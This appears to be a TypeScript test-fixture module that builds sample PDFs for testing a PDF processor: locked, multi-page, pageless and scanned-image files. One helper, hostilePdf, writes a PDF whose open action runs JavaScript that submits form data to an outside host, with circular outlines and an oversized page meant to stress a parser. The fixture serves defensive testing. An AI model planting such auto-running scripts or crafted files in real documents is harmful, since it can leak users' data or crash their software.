import PDFDocument from 'pdfkit';
import { blankSheet, type Sheet } from './sheet.ts';

/** A PDF that pdfkit writes by what `draw` does to it. */
function pdfOf(
  draw: (doc: PDFKit.PDFDocument) => void,
  options: PDFKit.PDFDocumentOptions = {},
): Promise<Buffer> {
  const doc = new PDFDocument({ autoFirstPage: false, ...options });
  const parts: Buffer[] = [];
  return new Promise((resolve) => {
    doc.on('data', (part: Buffer) => parts.push(part));
    doc.on('end', () => resolve(Buffer.concat(parts)));
    draw(doc);
    doc.end();
  });
}

/** Opens with a password only. */
export function lockedPdf(password: string, text: string): Promise<Buffer> {
  return pdfOf(
    (doc) => {
      doc.addPage({ size: [300, 300] });
      doc.fontSize(14).text(text, 30, 60);
    },
    { userPassword: password, pdfVersion: '1.7' },
  );
}

export function pdfOfPages(count: number): Promise<Buffer> {
  return pdfOf((doc) => {
    for (let page = 0; page < count; page += 1) doc.addPage({ size: [300, 300] }).text(`${page + 1}`, 30, 30);
  });
}

/** A page of pictures without any text. */
export function scannedSheet(): Sheet {
  const sheet = blankSheet(200, 200);
  sheet.images.push({ left: 0, top: 0, right: 200, bottom: 200 });
  return sheet;
}

const objects = (...bodies: readonly string[]): Buffer => {
  let text = '%PDF-1.7\n';
  const starts = bodies.map((body, at) => {
    const start = text.length;
    text += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return start;
  });
  const rows = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  const trailer = `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(`${text}xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${rows}${trailer}`, 'latin1');
};

/** A file with a page tree that has no page. */
export function pagelessPdf(): Buffer {
  return objects('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>');
}

/**
 * All at once: a script that runs at opening, outlines that go round in a circle, a page as large as the format
 * allows and larger, and one line of text.
 */
export function hostilePdf(): Buffer {
  const drawn = 'BT /F1 24 Tf 100 100 Td (Good morning, Dongcheng, from a page of no size at all) Tj ET';
  return objects(
    '<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("run"\\); this.submitForm\\("http://example.cn/"\\)) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400000 400000] /Contents 7 0 R /Resources << /Font << /F1 6 0 R >> >> >>',
    '<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>',
    '<< /Title (a) /Parent 4 0 R /Next 5 0 R /First 5 0 R /Last 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
  );
}
